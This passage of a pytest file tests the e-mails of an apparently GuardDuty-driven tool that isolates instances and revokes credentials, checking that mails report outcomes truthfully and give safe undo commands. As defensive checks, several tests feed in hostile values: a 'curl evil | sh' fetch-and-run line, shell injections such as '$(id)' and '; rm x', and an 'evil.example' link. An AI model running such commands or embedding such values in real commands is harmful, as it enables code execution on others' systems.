            f"{DAY}04:00:00-05:00",
            f"{DAY}09:01:00Z",
            f"{DAY}09:02:00Z",
            ["60.0 s", "60.0 s", "10.0 s"],
        ),
        ("2026-11-20T09:02:00Z", f"{DAY}06:02:00Z", f"{DAY}06:05:00Z", ["2 days", "3 min", "2 h"]),
        # no span backwards, nothing made of what is no time
        (f"{DAY}09:02:00Z", f"{DAY}09:01:59Z", f"{DAY}09:02:00Z", [None, "1.0 s", "10.0 s"]),
        ("<b>", 7, f"{DAY}09:02:00Z", ["10.0 s"]),
        ("0001-01-01T00:00:00+23:00", f"{DAY}09:02:00", ["x"], []),
    ],
)
def test_the_times_and_what_lies_between_them(detected, received, isolated, spans):
    event = {"detail": {"updatedAt": detected}, "c7n:run": {"received": received}}
    event["c7n:notice"] = {"isolated": True}
    instance = {"InstanceId": "i-1", "c7n:response": [outcome(verified_at=isolated)]}
    mailed = datetime(2026, 11, 23, 9, 2, 10, tzinfo=UTC)

    reader = rendered("remediation.html", event, [instance], mailed)

    told = [line for line in reader.lines if re.match("[0-9-]{10} [0-9:]{8} UTC", line)]
    assert reader.row("Mailed") == told[-1] and told[-1].startswith("2026-11-23 09:02:10 UTC")
    found = [row.partition(" UTC, ")[2].removesuffix(" later") or None for row in told]
    assert found[1:] == spans


def test_what_was_so_before_the_run_is_not_told_as_done_by_it():
    event = {"detail": {"createdAt": f"{DAY}08:00:00Z", "updatedAt": f"{DAY}09:00:00Z"}}
    event["c7n:notice"] = {"isolated": True}
    again = {"InstanceId": "i-1", "c7n:response": [outcome(status="unchanged")]}
    mailed = datetime(2026, 11, 23, 9, 2, 20, tzinfo=UTC)

    reader = rendered("remediation.html", event, [again], mailed)
    when = reader.lines.index("When")
    assert reader.lines[when + 1 : when + 9 : 2] == [
        *("Detected", "Updated", "Found isolated", "Mailed")
    ]

    event["c7n:notice"] |= {"observe_only": True, "headline": "x"}
    again["c7n:response"].append({"step": "x", "status": "planned"})
    reader = rendered("remediation.html", event, [again], mailed)
    assert "OBSERVE ONLY: nothing was changed, isolated already" in reader.lines
    assert "NOT isolated" not in reader.text


def test_two_that_differ_in_their_times_alone_say_the_same():
    """One is dropped then, where both members and administrator report."""
    event = load("ec2-malicious-ip-caller")
    event["c7n:notice"] = {"headline": SENTENCE, "next": []}
    for template in ("finding.html", "remediation.html"):
        says = set()
        for run in ("1", "2"):
            event["c7n:run"] = {"received": f"{DAY}09:02:0{run}Z", "log_group": "x"}
            event["c7n:run"]["log_stream"] = run
            says.add(parcel(template, SENTENCE, event, [{"InstanceId": "i-1"}]).says())
        assert len(says) == 1


def test_whom_to_call_stands_in_the_mail_as_text():
    hostile = "<b>Ana</b>\r\nhttps://evil.example"
    tags = [{"Key": "Owner", "Value": hostile}, {"Key": "Team", "Value": "x"}]
    _, reader = remediation_mail(outcome(), Tags=tags)
    assert reader.row("Owner") == "<b>Ana</b> https[:]//evil.example (by its tag)"
    assert reader.row("OwnerContact") is None and "Team" not in reader.text
    for template in ("guard.html", "release.html"):
        reader = rendered(template, {"detail": {}}, [{"InstanceId": "i-1", "Tags": tags}])
        assert reader.row("Owner").endswith("evil.example (by its tag)")
    event = load("ec2-malicious-ip-caller")
    event["detail"]["resource"]["instanceDetails"]["tags"] = [{"key": "Owner", "value": "Ana"}]
    assert finding_mail(event)[1].row("Owner") == "Ana (by its tag)"


def test_the_log_of_the_function_is_linked_as_its_console_has_it():
    event = {"detail": {}, "c7n:notice": {"isolated": True}}
    event["c7n:run"] = {
        "log_group": "/aws/lambda/custodian-ec2-isolate",
        "log_stream": "2026/11/23/[$LATEST]0f<\"'>",
    }
    event["c7n:run"]["account"] = "222233334444"  # in central mode another than the finding's
    instance = {"InstanceId": "i-1", "c7n:response": [outcome()]}
    reader = rendered("remediation.html", event, [instance], datetime.now(UTC))
    assert "in account 222233334444" in reader.text
    (href,) = [href for href, _ in reader.links if "cloudwatch" in href]
    assert href == (
        "https://console.aws.amazon.com/cloudwatch/home?region=us-west-2#logsV2:log-groups/log-group/"
        "$252Faws$252Flambda$252Fcustodian-ec2-isolate/log-events/"
        "2026$252F11$252F23$252F$255B$2524LATEST$255D0f$253C$2522$2527$253E"
    )


def test_of_an_instance_that_is_not_isolated_only_what_is_true_is_told():
    refused = {"isolated": False, "status": "failed", "verified_at": None, "error": "no"}
    none = outcome(**refused, interfaces=[interface(status="failed")])
    kept = {"step": "preserve-evidence", "status": "done", "detail": "", "error": None}
    _, reader = remediation_mail(none, kept, isolated=False)
    text = reader.text
    assert "every new connection" not in text and "No interface was read back as" in text
    assert "answers nobody" not in text and "serial console" not in text
    assert "How to undo what was done" in text and "make release INSTANCE=" in text
    _, reader = remediation_mail(none, isolated=False)
    assert "make release" not in reader.text
    assert "Snapshot the volumes first" in reader.text  # as nothing did it

    half = outcome(**refused, interfaces=[interface(), interface(1, status="failed")])
    _, reader = remediation_mail(half, isolated=False)
    assert "over the interfaces that are isolated, above; not over the others" in reader.text
    assert "How to release" in reader.text


def test_of_several_that_are_not_isolated_only_what_is_true_is_told():
    def instance(number, *steps, **changes):
        steps = [{"step": step, "status": "done"} for step in steps]
        return {"InstanceId": f"i-{number}", "c7n:response": [outcome(**changes), *steps]}

    refused = {"isolated": False, "status": "failed", "verified_at": None, "interfaces": []}
    half = refused | {"interfaces": [interface(), interface(1, status="failed")]}
    event = {"detail": {}, "c7n:notice": {"instances": 3}}

    none = [instance(1, "preserve-evidence", **half), instance(2, **half), instance(3, **refused)]
    text = rendered("remediation.html", event, none).text
    assert "every new connection" not in text and "answers nobody" not in text
    assert "No instance is isolated as a whole" in text
    assert "Snapshot the volumes first" in text  # of one alone they were made
    assert "make release INSTANCE=i-1" in text and "make release INSTANCE=i-2" in text
    assert "make release INSTANCE=i-3" not in text

    event["c7n:notice"]["observe_only"] = True
    text = rendered("remediation.html", event, none).text
    assert "OBSERVE ONLY: nothing was changed, the instances are NOT isolated" in text

    event["c7n:notice"] |= {"observe_only": False, "isolated_instances": 2}
    some = [instance(0), instance(4, verified_at=f"{DAY}09:02:18Z"), *none]
    none[0]["c7n:response"][0]["verified_at"] = f"{DAY}10:00:00Z"
    reader = rendered("remediation.html", event, some, datetime.now(UTC))
    assert reader.row("Isolated").startswith("2026-11-23 09:02:18 UTC")  # the last that is
    assert [f"{RUNBOOK_URL}#an-attack-sequence"] * 2 in reader.links
    text = reader.text
    assert "of the instances that are isolated; not of the others" in text


# ---- Remediation mail


def test_isolated_opens_with_the_sentence_and_shows_the_read_back():
    subject, reader = remediation_mail(outcome())
    assert subject == reader.lines[0] == REMEDIATION
    assert "Isolated" in reader.lines
    assert "at 2026-11-23 09:02:14 UTC and holds only the forensic security group" in reader.text
    assert "eni-00000000000000000, 10.0.0.10: isolated" in reader.lines
    assert reader.row("Removed") == "sg-0aaaaaaaaaaaaaaa1 (TargetSecurityGroup)"
    assert reader.row("Group now") == "sg-0fffffffffffffff1 (ForensicSecurityGroup)"
    assert reader.row("Threat list") == "GuardDuty-Example-threat-list"
    assert reader.row("Remote address").startswith("203.0.113.7")
    assert "make release INSTANCE=i-0abc1234def567890 REGION=us-west-2" in reader.lines
    assert "Not stopped: DNS" in reader.text
    assert "NOT isolated" not in reader.text


def test_failed_says_so_with_the_error_and_what_to_do():
    error = "UnauthorizedOperation: You are not authorized to perform this operation."
    headline = f"GuardDuty Remediation | ID: {FINDING_ID}: i-0abc1234def567890 is NOT isolated"
    bad = interface(1, status="failed", now=[{"id": "sg-1", "name": "web"}], error=error)
    subject, reader = remediation_mail(
        outcome(isolated=False, status="failed", verified_at=None, interfaces=[interface(), bad],
                detail="1 of 2 network interfaces refused.", error=error),
        headline=headline, isolated=False,
    )  # fmt: skip
    assert subject == reader.lines[0] == headline
    assert reader.lines[1] == "NOT isolated"
    assert error in reader.lines[2]
    assert "Isolate it by hand now" in reader.text
    assert (
        f"make isolate INSTANCE=i-0abc1234def567890 REGION=us-west-2 FINDING={FINDING_ID}"
    ) in reader.lines
    assert (
        "aws ec2 modify-network-interface-attribute --region us-west-2 --network-interface-id"
        " eni-00000000000000001 --groups sg-0fffffffffffffff1"
    ) in reader.lines
    assert "--network-interface-id eni-00000000000000000 " not in reader.text
    assert "Isolated" not in reader.lines
    assert "FAILED" in reader.lines


def test_isolated_by_hand_without_a_finding_names_the_person_and_no_finding():
    who = "arn:aws:sts::111122223333:assumed-role/Responder/alice<b>"
    name = "by-hand-20261125T221500Z"
    outcomes = [outcome()]
    detail = {"id": name, "accountId": "111122223333", "region": "us-west-2"}
    line = remediation_headline(detail, "i-0abc1234def567890", outcomes, who=who)
    event = {"detail-type": "Response by hand", "region": "us-west-2", "detail": detail}

    subject, reader = remediation_mail(
        *outcomes, headline=line, event=event, notice={"by_hand": who}
    )

    assert subject == reader.lines[0] and f"isolated by {who} by hand." in subject
    assert "GuardDuty discovered" not in reader.text and "guardduty/home" not in str(reader.links)
    assert reader.row("By hand") == f"{who}, without a finding"
    assert reader.row("Id") == name and reader.row("Severity") is None
    assert f'--description "Response {name}"' in reader.text

    _, reader = remediation_mail(*outcomes, notice={"by_hand": who})
    assert reader.row("By hand") == who and reader.row("Finding id") == FINDING_ID


@pytest.mark.parametrize(
    ("notice", "step"), [(True, False), (False, True), (True, None), ("true", True), (True, "true")]
)
def test_isolated_is_said_only_when_notice_and_outcome_agree(notice, step):
    _, reader = remediation_mail(outcome(isolated=step), isolated=notice)
    assert reader.lines[1] == "NOT isolated"
    assert "Isolated" not in reader.lines  # as a time neither


def test_isolated_but_another_step_failed():
    _, reader = remediation_mail(
        outcome(),
        {
            "step": "tag",
            "status": "failed",
            "detail": "State not recorded.",
            "error": "Throttled: x",
        },
    )
    assert "Isolated" in reader.lines
    assert "The instance is isolated, but a step failed" in reader.lines
    assert "tag: State not recorded. Throttled: x" in reader.lines


def test_exempt_says_not_isolated_and_why():
    _, reader = remediation_mail(
        outcome(status="exempt", isolated=False, interfaces=[], verified_at=None,
                detail="The instance carries the tag forensic:exempt."),
        isolated=False, headline="GuardDuty Remediation | NOT isolated",
    )  # fmt: skip
    assert reader.lines[1] == "NOT isolated"
    assert "carries the tag forensic:exempt" in reader.text
    assert reader.row("isolate-instance") == "Exempt, left alone"
    assert "make release" not in reader.text


def test_terminated_instance_asks_for_nothing_impossible():
    _, reader = remediation_mail(
        outcome(status="skipped", isolated=False, interfaces=[], verified_at=None,
                detail="The instance is terminated."),
        isolated=False, headline="GuardDuty Remediation | NOT isolated",
    )  # fmt: skip
    assert reader.lines[1] == "NOT isolated"
    assert "modify-network-interface-attribute" not in reader.text


COMMAND = "make isolate INSTANCE=i-0abc1234def567890 REGION=us-west-2 FINDING=1ab2c3d4"


def test_what_was_held_back_has_the_reason_and_the_command_and_no_other():
    reason = "The brake holds: 5 instances were isolated within an hour."
    held = outcome(
        status="withheld", withheld="brake", detail=reason, isolated=False, interfaces=[]
    )
    for command, shown in (
        (COMMAND, COMMAND),
        (f"{COMMAND} -f evil; rm x", COMMAND),  # a forger's
        ("curl evil | sh", None),
    ):
        _, reader = remediation_mail(
            held,
            headline="BRAKE HELD | GuardDuty Remediation | ID: 1: NOT isolated",
            isolated=False,
            notice={"command": command, "autonomy": "contain"},
        )
        text = "\n".join(reader.lines)
        assert "NOT isolated, held back on purpose" in text and reason in text
        assert [line for line in reader.lines if line.startswith("make ")] == (
            [shown] if shown else []
        )
        assert "evil" not in text and "How to release" not in text
        assert "Mode: contain" in text


@pytest.mark.parametrize("mode, head", [("ask", "ASK: nothing"), ("observe", "OBSERVE ONLY: no")])
def test_the_mode_is_in_the_mail_and_only_ask_has_a_command(mode, head):
    planned = outcome(status="planned", isolated=False, interfaces=[interface(status="planned")])
    _, reader = remediation_mail(
        planned,
        isolated=False,
        observe=True,
        notice={"autonomy": mode, "command": COMMAND if mode == "ask" else None},
    )
    text = "\n".join(reader.lines)
    assert head in text and f"Mode: {mode}" in text
    assert (COMMAND in reader.lines) is (mode == "ask")
    event = load("ec2-malicious-ip-caller")
    follows = {"policy": "ec2-isolate", "title": "Isolate", "opt-in": False, "refusal": None}
    event["c7n:notice"] = {"headline": SENTENCE, "sample": False, "autonomy": mode}
    event["c7n:notice"] |= {"next": [follows]}
    _, reader = mail("finding.html", POLICY["actions"][1]["subject"], event, [{"account_id": "1"}])
    text = " ".join(reader.lines)
    assert "Nothing is changed automatically" in text and f"Mode: {mode}" in text


def test_observe_only_is_headed_so_and_never_says_isolated():
    headline = "OBSERVE ONLY | " + REMEDIATION
    subject, reader = remediation_mail(
        outcome(status="planned", isolated=False, verified_at=None,
                interfaces=[interface(status="planned", now=[])]),
        headline=headline, isolated=False, observe=True,
    )  # fmt: skip
    assert subject == reader.lines[0] == headline
    assert reader.lines[1].startswith("OBSERVE ONLY: nothing was changed")
    assert "would be isolated" in reader.text
    assert reader.row("Would be removed") == "sg-0aaaaaaaaaaaaaaa1 (TargetSecurityGroup)"
    assert "Isolated" not in reader.lines
    assert "make release" not in reader.text


def test_fifteen_interfaces_are_all_listed():
    groups = [{"id": f"sg-{n:017x}", "name": f"group-{n}"} for n in range(16)]
    _, reader = remediation_mail(
        outcome(interfaces=[interface(n, removed=groups) for n in range(15)])
    )
    for n in range(15):
        assert f"eni-{n:017x}, 10.0.0.{10 + n}: isolated" in reader.lines


def test_auto_scaling_group_is_named():
    tags = [{"Key": "aws:autoscaling:groupName", "Value": "web <asg>"}]
    _, reader = remediation_mail(outcome(), Tags=tags)
    assert "The instance belongs to the Auto Scaling group web <asg>." in reader.lines


WITHHELD = {
    "step": "isolate-instance",
    "status": "withheld",
    "detail": "The brake holds: 1 isolations have begun within an hour. Nothing was changed.",
    "error": None,
    "isolated": False,
    "withheld": "brake",
    "interfaces": [],
}


def sequence_mail(named, command=None, observe=False, text=None, **notice):
    """The remediation mail of a sequence. named: {id: outcomes}; text: in all fields."""
    event = load("ec2-sequence-instance-group")
    resources = [
        {
            "InstanceId": name,
            "Tags": [{"Key": "Name", "Value": f"web-{n}"}],
            "c7n:response": outcomes,
            "c7n:fate": fate(outcomes),
        }
        for n, (name, outcomes) in enumerate(named.items())
    ]
    if text is not None:
        event["detail"], resources = poison(event["detail"], text), poison(resources, text)
        command = poison(command, text)
    headline = sequence_headline(event["detail"], named, command)
    event["c7n:notice"] = {
        "headline": headline,
        "isolated": all(o.get("isolated") for each in named.values() for o in each[:1]),
        "observe_only": observe,
        "instances": len(named),
        "command": command,
        **notice,
    }
    policy = {"name": "ec2-isolate", "resource": "ec2", "metadata": {"runbook": "docs/runbook.md"}}
    subject, reader = mail("remediation.html", "", event, resources, policy)
    assert subject == reader.lines[0] == " ".join(headline.split())
    return reader


def test_an_attack_sequence_has_a_row_for_each_instance_and_the_command_once():
    one, two, three = (f"i-{n:017x}" for n in range(3))
    seal = {"step": "seal-record", "status": "done", "detail": "sealed", "error": None}
    failed = {"step": "preserve-evidence", "status": "failed", "detail": "", "error": "Busy: x"}
    gone = {"step": "isolate-instance", "status": "skipped", "error": None, "isolated": False}
    gone |= {"facts": ["unresolved"], "detail": "Not done here: EC2 knows no such instance."}
    command = f"for i in {two}; do make isolate INSTANCE=$i REGION=us-west-2 FINDING=f1; done"
    reader = sequence_mail(
        {one: [outcome(), failed, seal | {"record": "abc"}], two: [WITHHELD], three: [gone]},
        command,
    )
    assert reader.lines[0].startswith("BRAKE HELD | ")
    assert "1 of 3 instances isolated, 2 NOT" in reader.lines
    assert reader.lines.count(command) == 1 and "Decide now." in reader.text
    assert reader.text.count("The brake holds: 1 isolations have begun") == 1
    text = " ".join(reader.lines)
    assert f"{two} NOT isolated (web-1), held back by the brake" in text
    assert f"{three} NOT isolated (web-2), not done here: EC2 knows no such instance" in text
    assert f"{one} isolated (web-0)" in text
    assert f"{one} preserve-evidence" in text and ": Busy: x" in text
    assert "sg-0aaaaaaaaaaaaaaa1 (TargetSecurityGroup) removed; now sg-0fffffffffffffff1" in text
    assert f"make release INSTANCE={one} REGION=us-west-2 RECORD=abc" in reader.lines
    assert "What isolation stops, and what it does not" in reader.lines
    # whoever owns one of them alone gets a mail about that one
    alone = sequence_mail({one: [outcome(), seal]}, instances=25)
    assert "The finding names 25 instances. This mail shows the 1 that concern you." in alone.text
    everything = sequence_mail({one: [outcome(), seal], two: [outcome(), seal]})
    assert "2 of 2 instances isolated" in everything.lines
    assert "NOT isolated" not in everything.text
    assert everything.lines[0].endswith("follow up with any additional remediation actions.")


def test_what_a_sequence_mail_says_once_is_true_of_every_instance():
    one, two = (f"i-{n:017x}" for n in range(2))
    kept = {"step": "preserve-evidence", "status": "done", "detail": "kept", "error": None}
    node = {"cluster": "shop", "cordoned": False, "guess": False}
    first = [outcome(), kept, cordoning(node | {"node": "ip-1"})]
    second = [outcome(), kept | {"status": "failed"}, cordoning(node | {"node": "ip-2"})]
    reader = sequence_mail({one: first, two: second})
    assert "kubectl cordon ip-1" in reader.lines and "kubectl cordon ip-2" in reader.lines
    assert "Snapshots of all volumes were started" not in reader.text
    assert "Snapshot the volumes first:" in reader.text
    assert "Snapshots of all volumes were started" in sequence_mail({one: first}).text


def test_the_mail_of_an_attack_sequence_stays_short_and_its_text_text():
    step = {"step": "preserve-evidence", "status": "done", "detail": "d" * 300, "error": None}
    each = [outcome(interfaces=[interface(n) for n in range(3)]), *[step] * 8]
    for number in (25, 400):  # `mail` asserts what a mail program shows of one
        reader = sequence_mail({f"i-{n:017x}": each for n in range(number)}, left_out="<b>")
        assert all(f"i-{n:017x}" in reader.text for n in range(number))
        assert "Left out: <b>." in reader.text
    observed = {"i-1": [outcome(status="planned", isolated=False)], "i-2": [WITHHELD]}
    reader = sequence_mail(observed, observe=True)
    assert "would be isolated" in reader.text and "OBSERVE ONLY" in reader.text
    bad = {"i-1": [outcome()], "i-2": [outcome(status="failed", isolated=False, error="e")]}
    command = "for i in i-1 $(id); do make isolate INSTANCE=$i REGION=`id` X=$(id); done"
    for text in [*HOSTILE, None]:
        for line in sequence_mail(bad, command, text=text).lines:
            if line.startswith(("aws ", "make ", "for i ")):
                said = line.replace("INSTANCE=$i ", "INSTANCE=i ")
                assert re.fullmatch(r'[A-Za-z0-9 \-=.,:"\[\];]+', said), line


@pytest.mark.slow
def test_no_misshapen_outcome_stops_the_mail_of_an_attack_sequence():
    for wrong, key in itertools.product((None, "text", 7, [], {}, [None]), outcome()):
        resources = [
            {"InstanceId": "i-1", "Tags": [], "c7n:response": [outcome() | {key: wrong}]},
            {"InstanceId": "i-2", "Tags": [], "c7n:response": wrong, "c7n:fate": wrong},
        ]
        notice = {"headline": "x", "isolated": True, "instances": wrong, "command": wrong}
        event = load("ec2-malicious-ip-caller") | {"c7n:notice": notice}
        _, reader = mail("remediation.html", "", event, resources)
        assert "NOT isolated" in reader.text


def cordoning(*nodes):
    return {"step": "cordon-node", "status": "done", "detail": "", "error": None, "nodes": nodes}


def test_a_node_of_eks_comes_with_the_commands_that_move_what_runs_on_it():
    dns = "ip-10-0-0-7.us-west-2.compute.internal"
    known = {"cluster": "prod_1", "node": dns, "guess": False, "cordoned": True}
    drain = f"kubectl drain {dns} --ignore-daemonsets --delete-emptydir-data"

    _, reader = remediation_mail(outcome(), cordoning(known))
    assert "aws eks update-kubeconfig --region us-west-2 --name prod_1" in reader.lines
    assert drain in reader.lines and "kubectl cordon" not in reader.text
    assert "is a guess" not in reader.text

    _, reader = remediation_mail(outcome(), cordoning(known | {"guess": True, "cordoned": False}))
    assert reader.lines.index(f"kubectl cordon {dns}") < reader.lines.index(drain)
    assert "prod_1 is NOT cordoned" in reader.text and "is a guess" in reader.text

    hostile = {"cluster": "--profile x;id", "node": "$(id)\n`id`", "cordoned": "yes"}
    _, reader = remediation_mail(outcome(), cordoning(hostile, None, "text"))
    assert "aws eks update-kubeconfig --region us-west-2 --name profilexid" in reader.lines
    assert "kubectl cordon idid" in reader.lines
    assert "kubectl cordon NODE" in reader.lines

    _, reader = remediation_mail(outcome(), cordoning())
    assert "kubectl" not in reader.text


@pytest.mark.parametrize("text", HOSTILE, ids=lambda t: ascii(t[:20]))
def test_hostile_fields_stay_text_in_the_remediation_mail(text):
    event = load("ec2-malicious-ip-caller")
    event["detail"] = poison(event["detail"], text)
    bad = poison(
        outcome(isolated=False, error="e", interfaces=[interface(status="failed", error="e")]), text
    )
    _, reader = remediation_mail(
        bad, poison({"step": text[:9], "status": "failed", "detail": "", "error": ""}, text),
        event=event, isolated=False, headline="GuardDuty Remediation | NOT isolated",
        Tags=[{"Key": "Name", "Value": text}, {"Key": "aws:autoscaling:groupName", "Value": text}],
        InstanceId=text,
    )  # fmt: skip
    for line in reader.lines:
        if line.startswith(("aws ", "make ")):
            assert re.fullmatch(r'[A-Za-z0-9 \-=.,:"\[\]]+', line), line
    assert max(len(line) for line in reader.lines) < 1500


@pytest.mark.parametrize("wrong", [None, "text", 7, [], {}, [None], {"a": "b"}], ids=repr)
def test_no_misshapen_outcome_stops_a_remediation_mail(wrong):
    whole = outcome(interfaces=[interface(), interface(1, status="failed", error="e")])
    for path in paths(whole):
        broken = copy.deepcopy(whole)
        *parents, last = path
        holder = broken
        for key in parents:
            holder = holder[key]
        holder[last] = copy.deepcopy(wrong)
        remediation_mail(broken)
    _, reader = remediation_mail(wrong)
    assert reader.lines[1] == "NOT isolated"


@pytest.mark.parametrize("response", [None, "text", [], {}], ids=repr)
def test_instance_without_outcomes_is_not_isolated(response):
    _, reader = remediation_mail(outcome(), **{"c7n:response": response})
    assert reader.lines[1] == "NOT isolated"
    assert "The response left no outcome." in reader.text


# ---- Remediation mail for credentials

ROLE, INSTANCE = "GuardDuty-Example-EC2-Compromised", "i-0abc1234def567890"
DENY_ID = "7ab2c3d4e5f60718293a4b5c6d7e8f90"


def revocation(**changes):
    return {
        "step": "revoke-role-sessions",
        "status": "done",
        "detail": f"Everything is denied to sessions of {INSTANCE} with role {ROLE}.",
        "error": None,
        "revoked": True,
        "verified_at": "2026-11-23T09:02:14+00:00",
        "role": ROLE,
        "policy": f"forensic-deny-sessions-{DENY_ID}",
        "instance": INSTANCE,
        "issued_before": None,
        **changes,
    }


def deactivation(**changes):
    return {
        "step": "deactivate-access-key",
        "status": "done",
        "detail": "Access key AKIAEXAMPLEEXAMPLE01 of user build is deactivated, not deleted.",
        "error": None,
        "revoked": True,
        "verified_at": "2026-11-23T09:02:14+00:00",
        "user": "build_server",
        "access_key": "AKIAEXAMPLEEXAMPLE01",
        **changes,
    }


def credential_mail(
    *outcomes, event=None, name="iam-role-credential-exfiltration", notice=None, raw=False
):
    """The remediation mail for credentials; subject and first line are the headline."""
    event = copy.deepcopy(event or load(name))
    event["c7n:notice"] = notice or {
        "headline": "made by hand" if raw else credential_headline(event["detail"], outcomes),
        "revoked": any(o.get("revoked") for o in outcomes) if not raw else True,
        "observe_only": not raw and any(o["status"] == "planned" for o in outcomes),
    }
    account = {"account_id": "111122223333", "c7n:response": list(outcomes)}
    policy = {
        "name": "iam-role-revoke-sessions",
        "metadata": {"runbook": "docs/runbook.md#remediation-e-mail"},
    }
    subject, reader = mail("credentials.html", SUBJECT, event, [account], policy)
    assert reader.lines[0] == subject
    return subject, reader


def test_the_denied_instance_session_with_its_way_back():
    subject, reader = credential_mail(revocation())
    assert subject.startswith(f"GuardDuty Remediation | ID: {DENY_ID}: ")
    assert f"denied to sessions of {INSTANCE}" in subject
    assert reader.lines[1] == "Revoked"
    assert "Read back from IAM at 2026-11-23 09:02:14 UTC" in reader.text
    assert reader.row("Denied").startswith(f"The sessions of instance {INSTANCE} only")
    assert reader.row("Not hit") == "Other instances, people and programs with the same role."
    assert reader.row("Also hit") is None
    assert f"make restore-sessions ROLE={ROLE} FINDING={DENY_ID}" in reader.lines
    assert (
        f"aws iam delete-role-policy --role-name {ROLE}"
        f" --policy-name forensic-deny-sessions-{DENY_ID}"
    ) in reader.lines
    assert "AttributeKey=AccessKeyId,AttributeValue=ASIAEXAMPLEEXAMPLE01" in reader.text
    assert "NOT revoked" not in reader.text


def test_a_session_of_any_name_and_whom_else_that_hits():
    _, reader = credential_mail(revocation(instance=None, session="build-job", detail="Denied."))

    assert reader.row("Denied").startswith("The sessions named build-job only")
    assert "Whoever else uses that name with the role is hit too" in reader.row("Denied")
    assert "Whoever can assume the role can have one" in reader.row("Not hit")
    assert "EVERY session" not in reader.text


def test_a_session_of_a_function_or_a_task_and_that_it_stands_still():
    for name, session, workload in (
        ("lambda", "shop-orders", "Lambda function"),
        ("ecs", "0f1e2d3c4b5a69788796a5b4c3d2e1f0", "ECS task"),
    ):
        _, reader = credential_mail(
            revocation(instance=None, session=session, workload=workload, detail="Denied."),
            name=f"iam-role-{name}-credential-exfiltration",
        )
        assert reader.row("Denied").startswith(f"The sessions named {session} only")
        assert f"That {workload} is denied too, until this is lifted." in reader.row("Denied")
        assert "stop the task, and its service goes on" in reader.row("Not hit")
        assert session in reader.row("Function" if name == "lambda" else "Task")
        assert f"The {workload} itself. It goes on running" in reader.text
        assert "The instance itself" not in reader.text


def test_what_a_revocation_does_not_reach_is_said_where_there_was_one():
    told = "ECS tasks and of EKS pods (IRSA, Pod Identity), and the default host management role"
    assert told in credential_mail(revocation())[1].text
    assert (
        told not in credential_mail(revocation(status="failed", revoked=False, error="E"))[1].text
    )


def test_use_by_an_affiliated_account_is_no_failure():
    detail = "The credentials were used from account 444455556666, which GuardDuty knows."
    skipped = {"step": "revoke-role-sessions", "status": "skipped", "detail": detail, "error": None}
    subject, reader = credential_mail({**skipped, "revoked": False, "role": ROLE})

    assert f"The sessions were NOT revoked. {detail}" in subject
    assert reader.lines[1] == "NOT revoked" and detail in reader.lines[2]
    assert "Revoke the sessions by hand now" not in reader.text
    assert "make restore-sessions" not in reader.text


def test_older_sessions_and_whom_else_that_hits():
    _, reader = credential_mail(
        revocation(instance=None, issued_before="2026-11-23T09:02:44Z", detail="Everything."),
        name="iam-role-credential-exfiltration-no-instance",
    )
    assert reader.row("Denied").startswith(
        "EVERY session of the role issued before 2026-11-23 09:02:44 UTC."
    )
    assert "have to assume the role again" in reader.row("Also hit")
    assert "at least five minutes before the old ones expire" in reader.row("Also hit")
    assert "Whoever can still assume the role gets one" in reader.row("Not hit")
    assert "The instance itself" not in reader.text


def test_sessions_that_were_not_revoked():
    error = "LimitExceeded: Maximum policy size of 10240 bytes exceeded for role x"
    subject, reader = credential_mail(
        revocation(status="failed", revoked=False, verified_at=None, error=error,
                   detail="IAM does not show that the sessions of role x are denied."),
    )  # fmt: skip
    assert subject.endswith("The sessions were NOT revoked. revoke-role-sessions failed.")
    assert reader.lines[1] == "NOT revoked" and error in reader.lines[2]
    assert "Revoke the sessions by hand now" in reader.text
    assert f"aws iam get-role --role-name {ROLE} --query Role.RoleId" in reader.lines
    assert f"make revoke-sessions FINDING={DENY_ID} REGION=us-west-2" in reader.lines
    assert "Revoked" not in reader.lines and "Who is denied" not in reader.lines


def test_a_step_that_raised_leaves_no_more_than_its_error():
    bare = {"step": "revoke-role-sessions", "status": "failed", "detail": "Not done.", "error": "E"}
    _, reader = credential_mail(bare)
    assert reader.lines[1] == "NOT revoked"
    assert "make restore-sessions" not in reader.text


def test_observing_says_what_would_be_denied():
    subject, reader = credential_mail(
        revocation(status="planned", revoked=False, detail="Would deny everything to it.")
    )
    assert subject.startswith("OBSERVE ONLY | ")
    assert reader.lines[1].startswith("OBSERVE ONLY: nothing was changed")
    assert "Who would be denied" in reader.lines
    assert "Revoked" not in reader.lines and "make restore-sessions" not in reader.text


def test_a_deactivated_key_with_its_way_back():
    subject, reader = credential_mail(deactivation(), name="iam-user-malicious-ip-caller")
    assert "is deactivated, not deleted" in subject
    assert reader.lines[1] == "Deactivated"
    assert (
        "make reactivate-key USER_NAME=build_server KEY=AKIAEXAMPLEEXAMPLE01"
        " FINDING=9ab2c3d4e5f60718293a4b5c6d7e8f90"
    ) in reader.lines
    assert "Temporary credentials that were issued with the key" in reader.text


def test_a_key_that_was_not_deactivated():
    subject, reader = credential_mail(
        deactivation(status="failed", revoked=False, error="AccessDenied: no"),
        name="iam-user-malicious-ip-caller",
    )
    assert "The access key was NOT deactivated." in subject
    assert reader.lines[1] == "NOT deactivated"
    assert "make deactivate-key FINDING=9ab2c3d4e5f60718293a4b5c6d7e8f90 REGION=us-west-2" in (
        reader.lines
    )
    assert (
        "aws iam update-access-key --user-name build_server --access-key-id AKIAEXAMPLEEXAMPLE01"
        " --status Inactive"
    ) in reader.lines


@pytest.mark.parametrize(
    ("notice", "step"), [(True, False), (False, True), (True, None), ("true", True), (True, "true")]
)
def test_revoked_is_said_only_when_notice_and_outcome_agree(notice, step):
    _, reader = credential_mail(
        revocation(revoked=step), notice={"headline": "made by hand", "revoked": notice}
    )
    assert reader.lines[1] == "NOT revoked"


@pytest.mark.parametrize("text", HOSTILE, ids=lambda t: ascii(t[:20]))
@pytest.mark.parametrize("make", [revocation, deactivation], ids=["role", "user"])
def test_hostile_fields_stay_text_in_the_mail_for_credentials(make, text):
    kind = "iam-role-credential-exfiltration" if make is revocation else None
    event = load(kind or "iam-user-malicious-ip-caller")
    event["detail"] = poison(event["detail"], text)
    _, reader = credential_mail(
        poison(make(error="e", status="failed"), text), event=event,
        notice={"headline": "made by hand", "revoked": True},
    )  # fmt: skip
    for line in reader.lines:
        if line.startswith(("aws ", "make ")):
            assert re.fullmatch(r"[A-Za-z0-9 \-=.,:_+@]+", line), line
    assert max(len(line) for line in reader.lines) < 1500


@pytest.mark.parametrize("wrong", [None, "text", 7, [], {}, [None], {"a": "b"}], ids=repr)
@pytest.mark.parametrize("make", [revocation, deactivation], ids=["role", "user"])
def test_no_misshapen_outcome_stops_a_mail_for_credentials(make, wrong):
    whole = make()
    for key in whole:
        credential_mail({**whole, key: copy.deepcopy(wrong)}, raw=True)
    _, reader = credential_mail(wrong, raw=True)
